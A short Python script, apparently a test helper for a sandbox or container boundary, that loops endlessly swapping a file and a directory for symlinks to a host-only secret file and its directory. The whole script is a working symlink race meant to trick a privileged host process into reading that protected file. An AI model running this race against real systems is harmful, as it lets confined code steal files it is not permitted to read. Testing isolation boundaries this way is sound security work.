"""Swaps a file and a directory for links to the host's, for as long as it lives.

SECRET is the path of a file that only the host may read.
"""

import os

secret = os.environ["SECRET"]
os.makedirs("race/directory")
with open("race/directory/secret", "w") as file:
    file.write("inside")
os.symlink(os.path.dirname(secret), "race/out")
with open("race/file", "w") as file:
    file.write("inside")
print("racing", flush=True)
while True:
    os.symlink(secret, "race/next")
    os.rename("race/next", "race/file")
    os.rename("race/directory", "race/away")
    os.rename("race/out", "race/directory")
    with open("race/next", "w") as file:
        file.write("inside")
    os.rename("race/next", "race/file")
    os.rename("race/directory", "race/out")
    os.rename("race/away", "race/directory")
